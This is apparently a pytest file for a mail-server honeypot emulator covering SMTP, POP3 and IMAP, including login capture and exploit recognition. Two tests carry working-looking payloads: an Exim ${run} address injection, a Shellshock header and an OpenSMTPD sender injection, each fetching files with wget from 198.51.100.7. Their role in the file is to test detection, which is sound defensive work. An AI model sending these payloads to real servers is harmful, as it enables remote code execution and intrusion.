"""SMTP, POP3 and IMAP: the dialogues read aloud, what exploits of mail servers would run, and every limit."""

from __future__ import annotations

import base64
import hashlib
import hmac

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried, MailReceived
from eudaemon.protocols import _mailbox, _sasl
from eudaemon.protocols._base import Claim, Visit
from eudaemon.protocols._mail import LOGINS_MAX
from eudaemon.protocols.imap import Imap
from eudaemon.protocols.imap import room as imap_room
from eudaemon.protocols.pop3 import Pop3
from eudaemon.protocols.smtp import Smtp, attacks, products
from eudaemon.protocols.smtp import room as smtp_room
from eudaemon.testing.script import START_S, Table, play, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content


def host_with(product: products.Product) -> Host:
    """Return a host whose mail server is this one."""
    hosts = (Host.from_seed(Seed(b"mail %d" % n)) for n in range(100))
    return next(host for host in hosts if products.Server(host).product is product)


POSTFIX = host_with(products._POSTFIX)
EXIM = host_with(products._EXIM)
SENDMAIL = host_with(products._SENDMAIL)
HOST = Host.from_seed(Seed(b"test"))


def at(host: Host, port: int = 25, **more: object) -> Visit:
    return visit(host=host, port=port, can_tls=True, **more)  # type: ignore[arg-type]


RELAY = r"""
*
> EHLO bot.example\r\n
*
> MAIL FROM:<a@example.com> SIZE=100\r\nRCPT TO:<victim@example.net>\r\nDATA\r\n
< 250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n354 End data with <CR><LF>.<CR><LF>\r\n
! command.entered line='RCPT TO:<victim@example.net>'
> Subject: test 1\r\n\r\n..two dots\r\n.\r\n
*
! mail.received sender='<a@example.com> SIZE=100' recipients=('<victim@example.net>',) size=30 subject='test 1'
^ upload message-1.eml 5375626a6563743a207465737420310d0a0d0a2e74776f20646f74730d0a
> QUIT\r\n
< 221 2.0.0 Bye\r\n
/ over
"""
ORDER = r"""
*
> MAIL FROM:<a@b>\r\nRCPT TO:<a@b>\r\nDATA\r\nWIZ\r\nNOOP\r\nRSET\r\nVRFY root\r\nVRFY nobody-here\r\nEXPN staff\r\n
< 503 5.5.1 Error: need MAIL command\r\n503 5.5.1 Error: need MAIL command\r\n503 5.5.1 Error: need MAIL command\r\n
< 502 5.5.2 Error: command not recognized\r\n250 2.0.0 Ok\r\n250 2.0.0 Ok\r\n252 2.0.0 root\r\n
< 550 5.1.1 <nobody-here>: Recipient address rejected: User unknown in local recipient table\r\n
< 502 5.5.2 Error: command not recognized\r\n
> HELO a\r\nMAIL FROM:<>\r\nDATA\r\nMAIL TO:<x>\r\nRCPT FROM:<x>\r\n
*
"""
LOGINS = r"""
*
> EHLO a\r\n
*
> AUTH LOGIN\r\n
< 334 VXNlcm5hbWU6\r\n
> YWRtaW4=\r\n
< 334 UGFzc3dvcmQ6\r\n
> d3Jvbmc=\r\n
*
! login.tried user='admin' password='wrong'
> AUTH PLAIN AGluZm9AZXhhbXBsZS5jb20Ac2VjcmV0\r\n
*
! login.tried user='info@example.com' password='secret'
> AUTH PLAIN\r\n
< 334 \r\n
> *\r\n
< 501 5.7.0 Authentication aborted\r\n
> AUTH LOGIN !!!\r\nAUTH NTLM\r\n
< 535 5.7.8 Error: authentication failed: Invalid base64 data\r\n
< 535 5.7.8 Error: authentication failed: Invalid authentication mechanism\r\n
> AUTH PLAIN AHJvb3QAcm9vdA==\r\n
< 235 2.7.0 Authentication successful\r\n
! login.tried user='root' password='root' accepted=True
> AUTH PLAIN AHJvb3QAcm9vdA==\r\n
< 503 5.5.1 Error: already authenticated\r\n
"""


@pytest.mark.parametrize("split", [0, 1])
@pytest.mark.parametrize("script", [RELAY, ORDER, LOGINS])
def test_a_mail_server_read_aloud(script: str, split: int) -> None:
    play(Smtp, script, split=split, given=at(POSTFIX))


@pytest.mark.parametrize("host", [POSTFIX, EXIM, SENDMAIL])
def test_every_product_answers_everything(host: Host) -> None:
    table = Table(Smtp(at(host))).open()
    said = table.say(
        b"EHLO a\r\nHELP\r\nMAIL FROM:<a>\r\nRCPT TO:<b@c>\r\nRSET\r\nVRFY root\r\nVRFY x\r\nEXPN x\r\nFOO\r\n"
        b"AUTH X\r\n"
        b"MAIL x\r\nMAIL FROM:<a>\r\nDATA\r\nRCPT TO:<b>\r\nDATA\r\nx\r\n.\r\nAUTH PLAIN AGEAYg==\r\nQUIT\r\n"
    )
    assert b"{" not in said
    assert all(line[:3].isdigit() and line[3:4] in (b" ", b"-") for line in said.splitlines())
    assert b"STARTTLS" in said
    assert table.over


def test_no_two_installations_are_alike() -> None:
    servers = [products.Server(Host.from_seed(Seed(b"%d" % n))) for n in range(24)]
    assert len({server.banner(START_S) for server in servers}) == 24


def test_what_a_digest_hides_is_guessed_or_kept_for_crackers() -> None:
    for password in (b"root", b"never guessed"):
        table = Table(Smtp(at(POSTFIX))).open()
        table.say(b"EHLO a\r\n")
        challenge = base64.b64decode(table.say(b"AUTH CRAM-MD5\r\n").split()[1])
        digest = hmac.new(password, challenge, hashlib.md5).hexdigest().encode()
        answer = base64.b64encode(b"root " + digest)
        said = table.say(answer + b"\r\n")
        (fact,) = (fact for fact in table.facts if isinstance(fact, LoginTried))
        if password == b"root":
            assert (fact, said[:3]) == (LoginTried("root", "root", accepted=True), b"235")
        else:
            kept = f"$cram_md5${base64.b64encode(challenge).decode()}${answer.decode()}"
            assert (fact, said[:3]) == (LoginTried("root", kept, accepted=False), b"535")


@pytest.mark.parametrize("key", [b"", b"key", b"k" * 64, b"k" * 65])
def test_a_digest_is_the_librarys(key: bytes) -> None:
    assert _sasl._hmac_md5(key, b"<1.2@host>") == hmac.new(key, b"<1.2@host>", hashlib.md5).hexdigest().encode()


@pytest.mark.parametrize("size", SIZES)
def test_a_message_of_any_size_is_kept_byte_for_byte(size: int) -> None:
    body = base64.encodebytes(content(size)).replace(b"\n", b"\r\n")
    whole = b"Subject: x\r\n\r\n.\r\n..\r\n" + body
    table = Table(Smtp(at(EXIM))).open()
    table.say(b"HELO a\r\nMAIL FROM:<a>\r\nRCPT TO:<b>\r\nDATA\r\n")
    sent = (b"\n" + whole).replace(b"\n.", b"\n..")[1:] + b".\r\n"
    for start in range(0, len(sent), 65_521):
        table.say(sent[start : start + 65_521])
    fits = len(whole) <= smtp_room.MESSAGE_BYTES_MAX
    assert [keep.data for keep in table.kept] == [whole] * fits
    assert table.room.visit.purse.bytes_taken < 100_000 or not fits


@pytest.mark.parametrize("split", [1, 2, 3, 7])
@pytest.mark.parametrize("body", [b"", b".x\r\n", b"a\n.\nb\r\n", b"a\r\n.\rb\r\n", b"\r\n\r\n.", b"a\n", b"...\r\n"])
def test_dots_in_any_pieces(body: bytes, split: int) -> None:
    whole, pieces = (Table(Smtp(at(EXIM))).open() for _ in range(2))
    for table, step in ((whole, 0), (pieces, split)):
        table.say(b"HELO a\r\nMAIL FROM:<a>\r\nRCPT TO:<b>\r\nDATA\r\n")
        table.say(body + b"\r\n.\r\nNOOP\r\n", step)
        table.end()
    assert whole.kept == pieces.kept != []
    assert whole.sent == pieces.sent


def test_a_message_that_breaks_off_is_kept_as_a_part() -> None:
    table = Table(Smtp(at(EXIM))).open()
    table.say(b"HELO a\r\nMAIL FROM:<a>\r\nRCPT TO:<b>\r\nDATA\r\nSubject: half\r\n\r\nnot al")
    table.end()
    assert [(keep.data, keep.partial) for keep in table.kept] == [(b"Subject: half\r\n\r\nnot al", True)]


def test_behind_starttls_nothing_said_in_plain_counts() -> None:
    table = Table(Smtp(at(POSTFIX))).open()
    table.say(b"EHLO a\r\nMAIL FROM:<a>\r\n")
    assert table.say(b"STARTTLS\r\nRSET\r\nQUIT\r\n") == b"220 2.0.0 Ready to start TLS\r\n"
    assert table.secured
    assert table.say(b"MAIL FROM:<a>\r\n").startswith(b"503")  # EHLO is due again
    assert b"STARTTLS" not in table.say(b"EHLO a\r\n")
    assert table.say(b"STARTTLS\r\n").startswith(b"502")


EXIM_RUN = (
    rb"root+${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20http\x3a\x2f\x2f198.51.100.7\x2fx\x20-O\x20\x2ftmp\x2fx\x22}}"
    b"@localhost"
)


def test_commands_in_addresses_and_headers_go_to_the_shell() -> None:
    table = Table(Smtp(at(EXIM))).open()
    table.say(b"HELO a\r\nMAIL FROM:<a@b>\r\nRCPT TO:<" + EXIM_RUN + b">\r\n")
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x"]
    table.answer("failed")
    table.say(b"DATA\r\nSubject: () { :; };wget http://198.51.100.7/y\r\n\r\nhello\r\n.\r\n")
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/y"]
    found = [fact for fact in table.facts if isinstance(fact, ExploitRecognised)]
    assert [(fact.name, fact.reference) for fact in found] == [
        ("exim-run", "CVE-2019-10149"), ("shellshock", "CVE-2014-6271"),
    ]  # fmt: skip
    assert found[0].command == '/bin/sh\t-c\t"wget http://198.51.100.7/x -O /tmp/x"'


def test_a_sender_that_is_a_shell_reads_the_body() -> None:
    table = Table(Smtp(at(POSTFIX))).open()
    table.say(b"HELO a\r\nMAIL FROM:<;for i in 0 1 2 3 4 5 6 7 8 9 a b c d;do read r;done;sh;exit 0;>\r\n"
              b"RCPT TO:<root>\r\nDATA\r\n\r\necho a > /tmp/a\r\nwget http://198.51.100.7/z\r\n.\r\n")  # fmt: skip
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/z"]
    assert [fact.reference for fact in table.facts if isinstance(fact, ExploitRecognised)] == ["CVE-2020-7247"]
    (mail,) = (fact for fact in table.facts if isinstance(fact, MailReceived))
    assert not mail.relayed
    direct = attacks.in_address(b"<;wget http://198.51.100.7/a;>")
    assert direct is not None
    assert (direct.command, direct.with_body) == (b"wget http://198.51.100.7/a", False)


def test_limits_of_a_mail_server(monkeypatch: pytest.MonkeyPatch) -> None:
    table = Table(Smtp(at(POSTFIX))).open()
    table.say(b"HELO a\r\nMAIL FROM:<a>\r\n" + b"RCPT TO:<b>\r\n" * smtp_room.RECIPIENTS_MAX)
    assert table.say(b"RCPT TO:<b>\r\n") == b"452 4.5.3 Error: too many recipients\r\n"
    for _ in range(LOGINS_MAX):
        table.say(b"AUTH PLAIN AGEAYg==\r\n")
    assert not table.fault
    table.say(b"AUTH PLAIN AGEAYg==\r\n")
    assert "logins" in table.fault

    table = Table(Smtp(at(POSTFIX))).open()
    table.say(b"HELO a\r\n" + b"MAIL FROM:<a>\r\nRCPT TO:<b>\r\nDATA\r\n.\r\n" * smtp_room.MESSAGES_MAX)
    assert not table.fault
    table.say(b"MAIL FROM:<a>\r\n")
    assert "messages" in table.fault

    for surplus in (0, 1):
        monkeypatch.setattr(smtp_room, "MESSAGE_BYTES_MAX", 100)
        table = Table(Smtp(at(POSTFIX))).open()
        table.say(b"HELO a\r\nMAIL FROM:<a>\r\nRCPT TO:<b>\r\nDATA\r\n" + b"x" * (98 + surplus) + b"\r\n.\r\n")
        assert ("over 100 bytes" in table.fault) == bool(surplus)
        table.end()
        assert [(len(keep.data), keep.partial) for keep in table.kept] == [(100, bool(surplus))]

    for surplus in (0, 1):
        table = Table(Smtp(at(POSTFIX))).open()
        table.say(b"x" * (Smtp.line_bytes_max + surplus) + b"\r\n")
        assert ("line over" in table.fault) == bool(surplus)
    for surplus in (0, 1):
        table = Table(Smtp(at(POSTFIX))).open()
        table.say(b"NOOP\r\n" * (Smtp.lines_max + surplus))
        assert ("lines" in table.fault) == bool(surplus)


# --- mailboxes -----------------------------------------------------------------------------------------


def owner() -> Host:
    """Return a host on which root's mailbox has something in it."""
    hosts = (Host.from_seed(Seed(b"box %d" % n)) for n in range(400))
    return next(host for host in hosts if len(_mailbox.mailbox(host, b"root", START_S)) > 1 and is_dovecot(host))


def is_dovecot(host: Host) -> bool:
    return all(b"Dovecot" in Table(room(at(host, 143))).open().sent for room in (Imap, Pop3))


OWNER = owner()
MESSAGES = _mailbox.mailbox(OWNER, b"root", START_S)
POP3 = r"""
*
> CAPA\r\n
< +OK\r\nCAPA\r\nTOP\r\nUIDL\r\nRESP-CODES\r\nPIPELINING\r\nSTLS\r\nUSER\r\nSASL PLAIN LOGIN CRAM-MD5\r\n.\r\n
> STAT\r\nPASS x\r\nUSER root\r\nPASS wrong\r\n
*
! login.tried user='root' password='wrong' accepted=False
> USER root\r\nPASS root\r\nSTAT\r\n
< +OK\r\n+OK Logged in.\r\n+OK {count} {size}\r\n
! login.tried user='root' password='root' accepted=True
> DELE 1\r\nRETR 1\r\nDELE 99\r\nLIST 1\r\nTOP 1\r\nTOP 1 x\r\nRSET\r\nNOOP\r\nLIST 1\r\n
< +OK Marked to be deleted.\r\n-ERR There's no message 1.\r\n-ERR There's no message 99.\r\n
< -ERR There's no message 1.\r\n-ERR Invalid message number.\r\n-ERR Invalid message number.\r\n+OK\r\n+OK\r\n
< +OK 1 {first}\r\n
> QUIT\r\n
< +OK Logging out.\r\n
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_a_mailbox_over_pop3(split: int) -> None:
    sizes = [len(message.content) for message in MESSAGES]
    script = POP3.replace("{count}", str(len(sizes))).replace("{size}", str(sum(sizes)))
    play(Pop3, script.replace("{first}", str(sizes[0])), split=split, given=at(OWNER, 110))


OTHERS = {
    (Pop3, b"+OK Hello there."): (
        (b"CAPA", b"+OK Here's what I can do:\r\nLOGIN-DELAY 10\r\n"), (b"USER x", b"+OK Password required."),
        (b"STAT", b"-ERR Invalid command."),
    ),
    (Pop3, b"+OK POP3 "): (
        (b"CAPA", b"+OK Capability list follows:\r\nLOGIN-DELAY 180\r\n"),
        (b"USER x", b"+OK User name accepted, password please"), (b"STAT", b"-ERR Unknown AUTHORIZATION state command"),
    ),
    (Imap, b"* OK [CAPABILITY IMAP4rev1 UIDPLUS CHILDREN "): (
        (b"1 X", b"1 NO Error in IMAP command received by server."), (b'2 LOGIN info ""', b"2 NO Login failed."),
    ),
    (Smtp, b"Sendmail"): (
        (b"DATA", b"503 5.0.0 Need MAIL command"), (b"RCPT TO:<a>", b"503 5.0.0 Need MAIL before RCPT"),
        (b'"', b'500 5.5.1 Command unrecognized: """'),
    ),
}  # fmt: skip


@pytest.mark.parametrize(("room", "greeting"), OTHERS, ids=lambda value: getattr(value, "name", None))
def test_other_products_speak_as_they_do(room: type[Imap | Pop3 | Smtp], greeting: bytes) -> None:
    tables = (Table(room(at(Host.from_seed(Seed(b"%d" % n)), 25))).open() for n in range(200))
    table = next(table for table in tables if greeting in table.sent)
    for said, heard in OTHERS[room, greeting]:
        assert table.say(said + b"\r\n").startswith(heard)


IMAP = r"""
*
> 1 CAPABILITY\r\n
< * CAPABILITY IMAP4rev1 LITERAL+ ID IDLE UIDPLUS NAMESPACE STARTTLS AUTH=PLAIN AUTH=LOGIN AUTH=CRAM-MD5\r\n
< 1 OK Capability completed.\r\n
> 2 SELECT INBOX\r\n3 LOGIN root "wr\\"ong"\r\n
< 2 BAD Error in IMAP command received by server.\r\n3 NO [AUTHENTICATIONFAILED] Authentication failed.\r\n
! login.tried user='root' password='wr"ong' accepted=False
> 4 LOGIN {4}\r\n
< + OK\r\n
> root {4+}\r\nroot\r\n
< 4 OK [CAPABILITY IMAP4rev1 LITERAL+ ID IDLE UIDPLUS NAMESPACE] Logged in\r\n
! login.tried user='root' password='root' accepted=True
> 5 LIST "" ""\r\n6 NAMESPACE\r\n7 ID ("name" "bot")\r\n8 SELECT nowhere\r\n9 FETCH 1 FLAGS\r\n
< * LIST (\\Noselect) "/" ""\r\n5 OK List completed.\r\n* NAMESPACE (("" "/")) NIL NIL\r\n6 OK Namespace completed.\r\n
< * ID NIL\r\n7 OK ID completed.\r\n8 NO [NONEXISTENT] Unknown Mailbox.\r\n
< 9 BAD Error in IMAP command received by server.\r\n
> 10 APPEND INBOX (\\Seen) {3+}\r\nabc\r\n
< 10 OK Completed.\r\n
^ upload message-1.eml 616263
> 11 SELECT Inbox\r\n
*
> 12 FETCH 1 (FLAGS RFC822.SIZE)\r\n13 UID FETCH 11 RFC822.SIZE\r\n14 UID SEARCH UNSEEN\r\n15 SEARCH 1:*\r\n16 IDLE\r\n
< * 1 FETCH (FLAGS (\\Seen) RFC822.SIZE {first})\r\n12 OK Fetch completed.\r\n
< * 1 FETCH (UID 11 RFC822.SIZE {first})\r\n13 OK Fetch completed.\r\n* SEARCH\r\n14 OK Search completed.\r\n
< * SEARCH{all}\r\n15 OK Search completed.\r\n+ idling\r\n
> DONE\r\n17 CLOSE\r\n18 CLOSE\r\n19\r\n20 LOGOUT\r\n
< 16 OK Idle completed.\r\n17 OK Close completed.\r\n18 BAD Error in IMAP command received by server.\r\n
< 19 BAD Error in IMAP command received by server.\r\n* BYE Logging out\r\n20 OK Logout completed.\r\n
/ over
"""


@pytest.mark.parametrize("split", [0, 1])
def test_a_mailbox_over_imap(split: int) -> None:
    numbers = "".join(f" {number}" for number in range(1, len(MESSAGES) + 1))
    script = IMAP.replace("{first}", str(len(MESSAGES[0].content))).replace("{all}", numbers)
    play(Imap, script, split=split, given=at(OWNER, 143))


@pytest.mark.parametrize("size", SIZES)
def test_what_is_appended_is_kept_byte_for_byte(size: int) -> None:
    table = Table(Imap(at(OWNER, 143))).open()
    table.say(b"1 LOGIN root root\r\n2 APPEND INBOX {%d}\r\n" % size)
    whole = content(size) + b"\r\n"
    for start in range(0, len(whole), 65_521):
        table.say(whole[start : start + 65_521])
    assert table.sent.endswith(b"2 OK Completed.\r\n")
    assert [(keep.data, keep.partial) for keep in table.kept] == [(content(size), False)]
    assert table.room.visit.purse.bytes_taken == 0


def test_limits_of_mailboxes() -> None:
    for size in (imap_room.LITERAL_BYTES_MAX, imap_room.LITERAL_BYTES_MAX + 1):
        table = Table(Imap(at(OWNER, 143))).open()
        table.say(b"1 LOGIN {%d}\r\n" % size)
        assert bool(table.fault) == (size > imap_room.LITERAL_BYTES_MAX)
    table = Table(Imap(at(OWNER, 143))).open()
    table.say(b"1 LOGIN " + b"{1+}\r\na " * imap_room.LITERALS_MAX)
    assert not table.fault
    table.say(b"{1+}\r\n")
    assert "literal" in table.fault
    for room, line in ((Pop3, b"USER a\r\nPASS b\r\n"), (Imap, b"1 LOGIN a b\r\n")):
        table = Table(room(at(OWNER))).open()
        table.say(line * LOGINS_MAX)
        assert not table.fault
        table.say(line)
        assert "logins" in table.fault
    table = Table(Imap(at(OWNER, 143, purse=Purse(1000)))).open()
    table.say(b"1 LOGIN {2000}\r\n" + b"x" * 2000)
    assert "holds too many" in table.fault


def test_who_gets_in_is_the_same_every_time_and_is_seldom() -> None:
    let_in = [name for name in range(600) if _sasl.accepts(HOST, b"user%d@example.com" % name, b"secret")]
    assert 20 < len(let_in) < 90
    assert let_in == [name for name in range(600) if _sasl.accepts(HOST, b"USER%d" % name, b"secret")]
    assert not _sasl.accepts(HOST, b"info", b"")


def test_mailboxes_are_drawn_and_do_not_change() -> None:
    counts = [len(_mailbox.mailbox(Host.from_seed(Seed(b"%d" % n)), b"admin", START_S)) for n in range(60)]
    assert 15 < counts.count(0) < 50
    assert max(counts) < _mailbox.MESSAGES_MAX
    assert _mailbox.mailbox(OWNER, b"root", START_S) == _mailbox.mailbox(OWNER, b"root", START_S + 5)
    assert all(b"\n" not in message.content.replace(b"\r\n", b"") for message in MESSAGES)


@pytest.mark.parametrize(
    ("room", "first", "claim"),
    [
        (Smtp, b"EHLO a\r\n", Claim.YES), (Smtp, b"EH", Claim.UNSURE), (Smtp, b"GET /", Claim.NO),
        (Pop3, b"CAPA\r\n", Claim.YES), (Pop3, b"USER a", Claim.UNSURE), (Pop3, b"GET /", Claim.NO),
        (Imap, b"a1 CAPABILITY\r\n", Claim.YES), (Imap, b"a1", Claim.UNSURE), (Imap, b"GET / HTTP/1.1\r\n", Claim.NO),
    ],
)  # fmt: skip
def test_claims(room: type[Smtp | Pop3 | Imap], first: bytes, claim: Claim) -> None:
    assert room.claim(first) is claim


def test_commands_are_stated_and_passwords_are_no_commands() -> None:
    table = Table(Imap(at(OWNER))).open()
    table.say(b"1 LOGIN root root\r\n2 NOOP\r\n")
    assert [fact for fact in table.facts if isinstance(fact, CommandEntered)] == [CommandEntered("NOOP")]
